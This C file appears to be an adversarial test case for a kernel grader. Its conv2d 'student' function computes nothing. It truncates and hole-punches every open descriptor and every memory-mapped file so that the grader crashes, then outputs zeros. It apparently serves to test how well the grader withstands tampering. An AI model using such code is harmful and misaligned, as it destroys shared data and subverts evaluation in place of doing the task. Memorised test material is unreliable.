/* attack: class=shared-files, lesson=conv/forward, expect=zero
 * says=outside the allowed error
 *
 * Cuts off the memory that it shares with the grader: truncates every descriptor and the files
 * behind its mappings to nothing. The grader's next look at the output is then a bus error in the
 * grader. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

static void cut(int descriptor)
{
    if (ftruncate(descriptor, 0) == 0)
        printf("cut descriptor %d\n", descriptor);
    fallocate(descriptor, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1 << 30);
}

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    DIR *const maps = opendir("/proc/self/map_files");
    char path[512];

    for (int descriptor = 0; descriptor < 256; descriptor++) {
        cut(descriptor);
        snprintf(path, sizeof path, "/proc/self/fd/%d", descriptor);
        const int again = open(path, O_RDWR);
        if (again >= 0)
            cut(again);
    }
    for (struct dirent *entry; maps && (entry = readdir(maps));) {
        snprintf(path, sizeof path, "/proc/self/map_files/%.200s", entry->d_name);
        const int again = open(path, O_RDWR);
        if (again >= 0)
            cut(again);
    }
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
